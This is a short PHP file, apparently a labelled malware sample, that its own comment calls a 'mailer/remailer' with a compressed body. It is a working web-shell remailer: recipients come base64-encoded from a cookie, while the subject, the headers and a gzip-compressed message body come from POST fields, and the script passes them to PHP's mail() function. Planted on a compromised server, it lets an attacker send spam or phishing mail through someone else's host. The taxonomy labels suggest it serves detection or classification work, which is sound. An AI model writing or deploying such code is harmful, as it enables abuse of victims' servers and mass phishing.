<?php
/* Family: mailer/remailer
   Style: remailer with compressed body
   Trait: body inflated from base64 of a POST field, recipients decoded from a cookie */
$rc = base64_decode($_COOKIE['r']);
$bd = gzuncompress(base64_decode($_POST['z']));
print mail($rc, base64_decode($_POST['q']), $bd, base64_decode($_POST['w'])) ? "ok" : "no";
